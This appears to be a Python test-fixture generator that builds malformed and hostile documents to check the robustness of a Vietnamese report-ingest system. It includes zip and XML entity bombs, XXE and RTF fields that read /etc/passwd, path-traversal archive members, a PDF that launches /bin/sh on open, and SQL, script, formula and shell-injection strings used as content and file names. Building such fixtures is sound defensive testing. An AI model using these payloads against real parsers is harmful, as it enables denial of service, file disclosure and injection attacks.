"""Files made to hurt whoever reads them, built by code: a table of names and makers.

What each attacks is said where it is made. None of them may cost more than itself.
"""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path

import pikepdf

W = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_DOCUMENT = (
    f'<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="{W}"><w:body>{{}}</w:body></w:document>'
)
_PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
_OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_RELATIONS = (
    f'<Relationships xmlns="{_PACKAGE}">'
    f'<Relationship Id="r" Type="{_OFFICE}/officeDocument" Target="{{}}"/></Relationships>'
)
_KEPT = "Toàn huyện có 25 mô hình dân vận khéo."

_LONG = 1_000_000  # characters
_BODY = f"{_KEPT}\n\n"  # what comes after it is of the report's body, and so searched for facts
RUNS = {
    "digits": "1", "dots": ".", "slashes": "/", "spaces": " ", "brackets": "(", "quotes": "“", "dashes": "-", "blank-lines": "\n",
    "numbers": "1.", "labels": "a) ", "numbered": "1.1.1.1.1. ", "roman": "IIIIVX. ", "numbered-lines": "1. Nội dung\n",
    "lettered-lines": "a) nội dung;\n", "bracketed": "(1) ", "dates": "1/1/", "ranges": "2020 - ", "days": "ngày 1, ",
    "months": "tháng ", "symbols": "1/QĐ-", "numbers-listed": "số 1, ", "words": "hai trăm ", "capitals": "BÁO CÁO ",
    "letterheads": "ỦY BAN NHÂN DÂN\n", "recipients": "Nơi nhận:\n", "signatures": "TM. ỦY BAN\n", "addressees": "Kính gửi: ",
    "chapters": "Chương I\n", "articles": "Điều 1. ", "accents": "\u0301", "letters": "a", "tabs": "a\t", "pipes": "a|",
    "percents": "1%", "money": "1 triệu ", "notes": "[1] ", "notes-typed": "[1] Xem văn bản.\n", "emphasis": "**a", "links": "[^1]",
    # what is compared with its like: facts, columns, cited documents, notes, totals
    "counts": "10 xã, ", "sums": "Có 10 xã, trong đó 5 xã A, 5 xã B. ", "parts": "trong đó 5 xã, ", "growth": "tăng 5% so với (5 xã, ",
    "means": "bình quân mỗi hộ 5 triệu đồng, 3 hộ ", "durations": "5 năm, ", "lending": "quý I, ngày 1/1/2020, ", "restated": "5 (năm) ",
    "cited": "Nghị quyết số 12-NQ/TU.\nNghị quyết số 13.\nNghị quyết trên.\n", "listed": "217-QĐ/TW x ", "set-columns": "A\tB\n",
    "set-blanks": "A          B\n", "notes-marked": "a [^1] ", "totals": "| Tổng | 1 |\n",
}  # fmt: skip


def docx(body: str, *, target: str = "word/document.xml", **members: bytes | str) -> bytes:
    """A .docx with this body; `members` stand in it under their names as given."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("_rels/.rels", _RELATIONS.format(target))
        archive.writestr("word/document.xml", body if body.startswith("<?xml") else _DOCUMENT.format(body))
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


def paragraph(text: str = _KEPT) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


# Packages.


def zip_bomb() -> bytes:
    """A thousandfold packed part: 150 MB of blanks."""
    return docx(_DOCUMENT.format(f"{paragraph()}<w:p><w:r><w:t>{' ' * 150_000_000}</w:t></w:r></w:p>"))


def zip_of_many() -> bytes:
    """A hundred thousand members."""
    out = io.BytesIO(docx(paragraph()))
    with zipfile.ZipFile(out, "a") as archive:
        for i in range(100_000):
            archive.writestr(f"x/{i}", b"")
    return out.getvalue()


def zip_lying() -> bytes:
    """The directory says that the document unpacks to four gigabytes."""
    data = bytearray(docx(paragraph()))
    entry = data.rindex(b"word/document.xml") - 46
    data[entry + 24 : entry + 28] = struct.pack("<I", 0xFFFFFFFE)
    return bytes(data)


def path_tricks() -> bytes:
    """Members that would lie outside, were they unpacked; the document is one of them."""
    return docx(
        paragraph(),
        target="../../../../etc/passwd",
        **{"../../../../etc/passwd": _DOCUMENT.format(paragraph()), "/etc/cron.d/x": "x", "C:\\x": "x"},
    )


def entity_bomb() -> bytes:
    """A billion laughs."""
    laughs = "".join(
        f'<!ENTITY l{i} "{entity * 10}">' for i, entity in enumerate(map("&l{};".format, range(9)), 1)
    )
    return docx(
        f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY l0 "ha">{laughs}]>'
        f'<w:document xmlns:w="{W}"><w:body>{paragraph("&l9;")}</w:body></w:document>'
    )


def external_entity() -> bytes:
    """An entity that stands for a file of this machine."""
    return docx(
        f'<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
        f'<w:document xmlns:w="{W}"><w:body>{paragraph("&x;")}</w:body></w:document>'
    )


# Nesting, and more of something than anyone writes.


def nested(opening: str, closing: str, depth: int) -> bytes:
    return docx(opening * depth + paragraph() + closing * depth)


def many_attributes() -> bytes:
    attributes = " ".join(f'a{i}="{i}"' for i in range(200_000))
    return docx(f"<w:p {attributes}>{paragraph()[5:]}")


def wide_table() -> bytes:
    """Spans of a billion columns and rows."""
    span = '<w:tcPr><w:gridSpan w:val="1000000000"/><w:vMerge w:val="restart"/></w:tcPr>'
    row = f"<w:tr><w:tc>{span}{paragraph()}</w:tc><w:tc>{span}{paragraph()}</w:tc></w:tr>"
    return docx(f"<w:tbl>{row * 3}</w:tbl>")


def numbering_lies() -> bytes:
    """A list that begins at a number of twenty digits, at level minus one, printed in roman."""
    numbering = (
        f'<?xml version="1.0"?><w:numbering xmlns:w="{W}"><w:abstractNum w:abstractNumId="1">'
        + "".join(
            f'<w:lvl w:ilvl="{i}"><w:start w:val="{s}"/><w:numFmt w:val="{f}"/><w:lvlText w:val="%1%2%9%{i}."/></w:lvl>'
            for i, s, f in ((0, "99999999999999999999", "upperRoman"), (1, "-5", "lowerLetter"), (-1, "2147483647", "chicago"))
        )
        + '</w:abstractNum><w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    )  # fmt: skip
    relations = (
        f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="n" Type="{_OFFICE}/numbering" Target="numbering.xml"/>'
        "</Relationships>"
    )
    items = "".join(
        f'<w:p><w:pPr><w:numPr><w:ilvl w:val="{i}"/><w:numId w:val="1"/></w:numPr></w:pPr>{paragraph()[5:]}'
        for i in (0, 1, 8, -1, 10**9)
    )
    members = {"word/numbering.xml": numbering, "word/_rels/document.xml.rels": relations}
    return docx(items, **members)


def style_loop() -> bytes:
    """Styles based on one another in a ring."""
    styles = (
        f'<?xml version="1.0"?><w:styles xmlns:w="{W}">'
        '<w:style w:type="paragraph" w:styleId="a"><w:basedOn w:val="b"/></w:style>'
        '<w:style w:type="paragraph" w:styleId="b"><w:basedOn w:val="a"/></w:style></w:styles>'
    )
    relations = (
        f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="n" Type="{_OFFICE}/styles" Target="styles.xml"/>'
        "</Relationships>"
    )
    members = {"word/styles.xml": styles, "word/_rels/document.xml.rels": relations}
    return docx(f'<w:p><w:pPr><w:pStyle w:val="a"/></w:pPr>{paragraph()[5:]}', **members)


def note_bomb() -> bytes:
    """A note of fifty kilobytes, marked twenty thousand times: a gigabyte, were it printed at each mark."""
    relations = (
        f'<Relationships xmlns="{_PACKAGE}"><Relationship Id="n" Type="{_OFFICE}/footnotes" Target="notes.xml"/>'
        "</Relationships>"
    )
    note = f'<w:footnote w:id="1">{paragraph("5 xã, " * 5000)}</w:footnote>'
    mark = '<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>'
    members = {
        "word/_rels/document.xml.rels": relations,
        "word/notes.xml": f'<w:footnotes xmlns:w="{W}">{note}</w:footnotes>',
    }
    return docx(paragraph() + mark * 20_000, **members)


def outside(target: str) -> bytes:
    """Styles, notes and a part to be inserted that lie on this machine or on another."""
    links = "".join(
        f'<Relationship Id="{kind}" Type="{_OFFICE}/{kind}" Target="{target}" TargetMode="External"/>'
        for kind in ("styles", "footnotes", "numbering", "aFChunk", "attachedTemplate")
    )
    inserted = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="{target}"/>'
    members = {"word/_rels/document.xml.rels": f'<Relationships xmlns="{_PACKAGE}">{links}</Relationships>'}
    return docx(f'{inserted}<w:altChunk xmlns:r="{_OFFICE}" r:id="aFChunk"/>{paragraph()}', **members)


# PDF.


def pdf(
    change: Callable[[pikepdf.Pdf, pikepdf.Page], None] = lambda pdf, page: None, content: bytes | None = None
) -> bytes:
    """One page that says `25 xa`, changed."""
    made = pikepdf.Pdf.new()
    page = made.add_blank_page(page_size=(595, 842))
    font = pikepdf.Dictionary(
        Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica
    )
    page.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(F=font))
    shown = b"BT /F 14 Tf 85 700 Td (Toan huyen co 25 mo hinh va 30 xa trong nam 2023) Tj ET"
    page.Contents = made.make_stream(shown if content is None else content)
    change(made, page)
    out = io.BytesIO()
    made.save(out, object_stream_mode=pikepdf.ObjectStreamMode.disable)
    return out.getvalue()


def many_pages() -> bytes:
    """A page tree that says it holds a million pages, and holds one."""
    return pdf().replace(b"/Count 1", b"/Count 1000000", 1)


def page_million_times() -> bytes:
    """A tree in which twenty nodes name their child twice each: a million pages out of one."""

    def change(made: pikepdf.Pdf, page: pikepdf.Page) -> None:
        node = page.obj
        count = 1
        for _ in range(20):
            count *= 2
            node = made.make_indirect(
                pikepdf.Dictionary(Type=pikepdf.Name.Pages, Count=count, Kids=pikepdf.Array([node, node]))
            )
        made.Root.Pages = node

    return pdf(change)


def page_loop() -> bytes:
    """A page tree that is its own child."""

    def change(made: pikepdf.Pdf, page: pikepdf.Page) -> None:
        made.Root.Pages.Kids.append(made.Root.Pages)

    return pdf(change)


def stream_bomb() -> bytes:
    """A page whose content unpacks to 500 MB, twice over."""
    bomb = zlib.compress(zlib.compress(b" " * 500_000_000, 9), 9)

    def change(made: pikepdf.Pdf, page: pikepdf.Page) -> None:
        page.Contents = made.make_indirect(
            pikepdf.Stream(made, bomb, Filter=pikepdf.Array([pikepdf.Name.FlateDecode] * 2))
        )

    return pdf(change)


def form_loop() -> bytes:
    """A form that draws itself, and a chain that doubles at each of forty steps."""

    def change(made: pikepdf.Pdf, page: pikepdf.Page) -> None:
        inner = made.make_stream(
            b"/X Do /X Do", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 9, 9]
        )
        inner.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=inner))
        for _ in range(40):
            outer = made.make_stream(
                b"/X Do /X Do", Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Form, BBox=[0, 0, 9, 9]
            )
            outer.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(X=inner))
            inner = outer
        page.Resources.XObject = pikepdf.Dictionary(X=inner)
        page.Contents = made.make_stream(page.Contents.read_bytes() + b" /X Do")

    return pdf(change)  # fmt: skip


def acting() -> bytes:
    """JavaScript, a program to be launched and a form to be sent, when the file opens."""

    def change(made: pikepdf.Pdf, page: pikepdf.Page) -> None:
        script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("while(1){app.alert(1)}"))
        launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("/bin/sh"), Next=script)
        made.Root.OpenAction = launch
        page.AA = pikepdf.Dictionary(O=script)
        page.Annots = pikepdf.Array(
            [pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=[0, 0, 595, 842], A=launch)]
        )  # fmt: skip

    return pdf(change)


def many_objects() -> bytes:
    """A million objects that nothing names, with a table of where each stands."""
    body = pdf()
    start = body.rindex(b"\nxref") + 1
    size = int(body[start:].split()[2])
    entries = body[start:].partition(b"\n")[2].partition(b"\n")[2].partition(b"trailer")[0]
    added = b"".join(b"%010d 00000 n \n" % start for _ in range(1_000_000 - size))
    table = b"xref\n0 1000000\n" + entries + added
    return body[:start] + table + b"trailer <</Root 1 0 R /Size 1000000>>\nstartxref\n%d\n%%%%EOF" % start


def many_stamps() -> bytes:
    """Twenty thousand stamps on one page, each with a figure."""

    def change(made: pikepdf.Pdf, page: pikepdf.Page) -> None:
        look = made.make_stream(
            b"BT /F 9 Tf 1 1 Td (2) Tj ET",
            Type=pikepdf.Name.XObject,
            Subtype=pikepdf.Name.Form,
            BBox=[0, 0, 9, 9],
        )
        look.Resources = page.Resources
        page.Annots = pikepdf.Array(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Stamp, AP=pikepdf.Dictionary(N=look),
                Rect=[i % 500, i // 500 * 9, i % 500 + 9, i // 500 * 9 + 9],
            )
            for i in range(20_000)
        )  # fmt: skip

    return pdf(change)


def font_in_itself() -> bytes:
    """A font whose letter is drawn with that letter, and a map from all codes to all letters."""

    def change(made: pikepdf.Pdf, page: pikepdf.Page) -> None:
        font = made.make_indirect(
            pikepdf.Dictionary(
                Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type3, FontBBox=[0, 0, 1000, 1000], FontMatrix=[0.001, 0, 0, 0.001, 0, 0],
                FirstChar=0, LastChar=255, Widths=[500] * 256,
                Encoding=pikepdf.Dictionary(Type=pikepdf.Name.Encoding, Differences=[97, pikepdf.Name.a]),
            )
        )  # fmt: skip
        font.CharProcs = pikepdf.Dictionary(a=made.make_stream(b"500 0 d0 BT /T 1000 Tf (aa) Tj ET"))
        font.Resources = pikepdf.Dictionary(Font=pikepdf.Dictionary(T=font))
        page.Resources.Font.T = font
        page.Resources.Font.F.ToUnicode = made.make_stream(
            b"begincmap 100 beginbfrange " + b"<00000000> <FFFFFFFF> <0000> " * 100 + b"endbfrange endcmap"
        )
        page.Contents = made.make_stream(page.Contents.read_bytes() + b" BT /T 10 Tf 100 100 Td (aaaa) Tj ET")

    return pdf(change)


def encrypted(**passwords: str) -> bytes:
    out = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as made:
        made.save(out, encryption=pikepdf.Encryption(**passwords))
    return out.getvalue()


def giant_page() -> bytes:
    def change(made: pikepdf.Pdf, page: pikepdf.Page) -> None:
        page.MediaBox = pikepdf.Array([-1e12, -1e12, 1e12, 1e12])
        page.UserUnit = 1e9

    return pdf(change)


def giant_image() -> bytes:
    """A picture of 100,000 by 100,000 dots, packed to nothing, that covers the page."""

    def change(made: pikepdf.Pdf, page: pikepdf.Page) -> None:
        image = made.make_stream(
            zlib.compress(b"\0" * 1000), Type=pikepdf.Name.XObject, Subtype=pikepdf.Name.Image,
            Width=100_000, Height=100_000, BitsPerComponent=8, ColorSpace=pikepdf.Name.DeviceRGB, Filter=pikepdf.Name.FlateDecode,
        )  # fmt: skip
        page.Resources.XObject = pikepdf.Dictionary(I=image)
        page.Contents = made.make_stream(page.Contents.read_bytes() + b" q 595 0 0 842 0 0 cm /I Do Q")

    return pdf(change)


def broken_font() -> bytes:
    """A font whose program and character map are noise."""

    def change(made: pikepdf.Pdf, page: pikepdf.Page) -> None:
        font = page.Resources.Font.F
        font.Subtype = pikepdf.Name.TrueType
        font.ToUnicode = made.make_stream(
            b"1 beginbfrange <00> <FF> <D800> endbfrange " + bytes(range(256)) * 50
        )
        font.FontDescriptor = pikepdf.Dictionary(
            Type=pikepdf.Name.FontDescriptor, FontName=pikepdf.Name("/X"), Flags=4, FontBBox=[0, 0, 0, 0],
            FontFile2=made.make_stream(b"\0\1\0\0\xff\xff" + bytes(range(256)) * 20),
        )  # fmt: skip
        font.FirstChar, font.LastChar = -5, 2**31 - 1
        font.Widths = pikepdf.Array([10**12, -(10**12), 0.0])

    return pdf(change)


def stacked_text() -> bytes:
    """Two hundred thousand letters on one spot."""
    return pdf(content=b"BT /F 14 Tf 85 700 Td " + b"(1) Tj 0 0 Td " * 200_000 + b"ET")


def many_rulings() -> bytes:
    """Four hundred thousand lines, as of a table of 200,000 rows and as many columns."""
    lines = b"".join(
        b"%f 0 m %f 842 l S 0 %f m 595 %f l S " % (x, x, y, y)
        for x, y in ((595 * i / 200_000, 842 * i / 200_000) for i in range(200_000))
    )
    return pdf(content=b"BT /F 14 Tf 85 700 Td (Co 25 xa) Tj ET " + lines)


def squared_paper() -> bytes:
    """A sheet ruled into forty thousand squares, with a line of text."""
    lines = b"".join(
        b"%f 0 m %f 842 l S 0 %f m 595 %f l S " % (x, x, y, y)
        for x, y in ((595 * i / 200, 842 * i / 200) for i in range(200))
    )
    text = (
        b"BT /F 14 Tf 85 700 Td "
        + b"(Toan huyen co 25 mo hinh va 30 xa trong nam 2023) Tj 0 -20 Td " * 3
        + b"ET "
    )
    return pdf(content=text + lines)


def deep_arrays() -> bytes:
    return pdf().replace(b"/Root ", b"/X " + b"[" * 100_000 + b"]" * 100_000 + b" /Root ", 1)


def deep_gstates() -> bytes:
    return pdf(content=b"q " * 500_000 + b"BT /F 14 Tf 85 700 Td (Co 25 xa) Tj ET")


# Pictures, old Word files, text.


def png(width: int, height: int) -> bytes:
    """A picture that says it is so large, and holds one line."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(b"IDAT", zlib.compress(b"\0" * 1000))
        + chunk(b"IEND", b"")
    )


def rtf_nested() -> bytes:
    return b"{\\rtf1 " + b"{" * 100_000 + b"25 xa" + b"}" * 100_000 + b"}"


def rtf_linking() -> bytes:
    """Fields that take in another file's text and picture."""
    fields = b"".join(
        b'{\\field{\\*\\fldinst %s "file:///etc/passwd" }{\\fldrslt -}}' % kind
        for kind in (b"INCLUDETEXT", b"INCLUDEPICTURE")
    )
    return b"{\\rtf1\\ansi " + fields + b" 25 xa\\par}"


def controls() -> bytes:
    """Text that would move a terminal's cursor, colour it, set its title; NUL; text run backwards."""
    return "Toàn huyện có \x1b[31m25 mô hình\x1b[0m dân vận\x00 khéo.\x1b]0;x\x07\u009b2J \u202eabc\u2066\n".encode()


def injections() -> bytes:
    """What a page, a database or a sheet might take for more than text."""
    return "\n".join(
        (
            "Số: 12/BC-UBND'; DROP TABLE facts; --",
            "BÁO CÁO",
            "Kết quả </title><script>alert('title')</script> năm 2023",
            "I. <img src=x onerror=alert(1)> KẾT QUẢ",
            "1. </script><script>alert('heading')</script>",
            'Có 25 mô hình "><svg onload=alert(2)> và 30 xã javascript:alert(3) {{7*7}} ${7*7} &lt;b&gt;.',
            "=HYPERLINK(\"http://x\", 12 xã)", "+1+cmd|' /C calc'!A0 12 hộ", "@SUM(12 hộ)", "-2+3+cmd|x 12 hộ",
        )
    ).encode()  # fmt: skip


MAKERS: dict[str, Callable[[], bytes]] = {
    "zip-bomb.docx": zip_bomb,
    "zip-of-many.docx": zip_of_many,
    "zip-lying.docx": zip_lying,
    "path-tricks.docx": path_tricks,
    "entity-bomb.docx": entity_bomb,
    "external-entity.docx": external_entity,
    "tables-in-tables.docx": lambda: nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 500),
    "tables-to-the-limit.docx": lambda: nested("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>", 80),
    "controls-in-controls.docx": lambda: nested("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", 10_000),
    "controls-to-the-limit.docx": lambda: nested("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>", 120),
    "runs-to-the-limit.docx": lambda: docx(
        f"<w:p>{'<w:ins>' * 240}<w:r><w:t>{_KEPT}</w:t></w:r>{'</w:ins>' * 240}</w:p>"
    ),
    "text-boxes-to-the-limit.docx": lambda: nested(
        "<w:p><w:r><w:pict><w:txbxContent>", "</w:txbxContent></w:pict></w:r></w:p>", 60
    ),
    "many-paragraphs.docx": lambda: docx(paragraph("a") * 200_000),
    "many-fields.docx": lambda: docx(
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r></w:p>' * 20_000 + paragraph()
    ),
    "many-attributes.docx": many_attributes,
    "wide-table.docx": wide_table,
    "numbering-lies.docx": numbering_lies,
    "style-loop.docx": style_loop,
    "note-bomb.docx": note_bomb,
    "outside-file.docx": lambda: outside("file:///etc/passwd"),
    "outside-web.docx": lambda: outside("http://127.0.0.1:9/x.xml"),
    "many-pages.pdf": many_pages,
    "many-objects.pdf": many_objects,
    "many-stamps.pdf": many_stamps,
    "font-in-itself.pdf": font_in_itself,
    "locked.pdf": lambda: encrypted(user="x", owner="y"),
    "locked-to-print.pdf": lambda: encrypted(user="", owner="y"),
    "page-million-times.pdf": page_million_times,
    "page-loop.pdf": page_loop,
    "stream-bomb.pdf": stream_bomb,
    "form-loop.pdf": form_loop,
    "acting.pdf": acting,
    "giant-page.pdf": giant_page,
    "giant-image.pdf": giant_image,
    "broken-font.pdf": broken_font,
    "stacked-text.pdf": stacked_text,
    "many-rulings.pdf": many_rulings,
    "squared-paper.pdf": squared_paper,
    "deep-arrays.pdf": deep_arrays,
    "deep-gstates.pdf": deep_gstates,
    "no-pages.pdf": lambda: pdf(lambda made, page: made.pages.__delitem__(0)),
    "giant.png": lambda: png(100_000, 100_000),
    "negative.png": lambda: png(2**31 - 1, 1),
    "nested.rtf": rtf_nested,
    "linking.rtf": rtf_linking,
    "bin.rtf": lambda: rb"{\rtf1 25 xa\bin999999999999 ",
    "controls.txt": controls,
    "injections.txt": injections,
    "nul.txt": lambda: b"\0" * 1000 + b"25 xa",
    **{f"run-of-{name}.txt": lambda unit=unit: (_BODY + unit * (_LONG // len(unit))).encode() for name, unit in RUNS.items()},
    **{f"run-of-{name}.md": lambda unit=unit: (_BODY + unit * (_LONG // 10 // len(unit))).encode() for name, unit in RUNS.items()},
}  # fmt: skip

# Names that hurt whoever prints them, stores them or puts them into a command.
NAMES = (
    "dòng\nmới.txt", "màu\x1b[31mđỏ.txt", "x'; DROP TABLE documents; --.txt", "<img src=x onerror=alert(1)>.txt", "$(touch x).txt",
    "-rf.txt", "--help.txt", "%s%n.txt", "[bold]đậm[red].txt", "a" * 240 + ".txt", "\u202etxt.exe.txt", "=1+1.txt", "b\udce1o.txt",
)  # fmt: skip


def build(folder: Path, *names: str) -> list[Path]:
    """The files of these names, else all, and the odd names; the paths of what an ingest should look at."""
    made = []
    for name in names or MAKERS:
        path = folder / name
        path.write_bytes(MAKERS[name]())
        made.append(path)
    if not names:
        made += named(folder)
    return made


def named(folder: Path) -> list[Path]:
    """A report under each of the odd names, each of its own content."""
    made = []
    for i, name in enumerate(NAMES):
        path = folder / name
        path.write_text(f"{_KEPT} Có {i} xã.\n", encoding="utf-8")
        made.append(path)
    return made
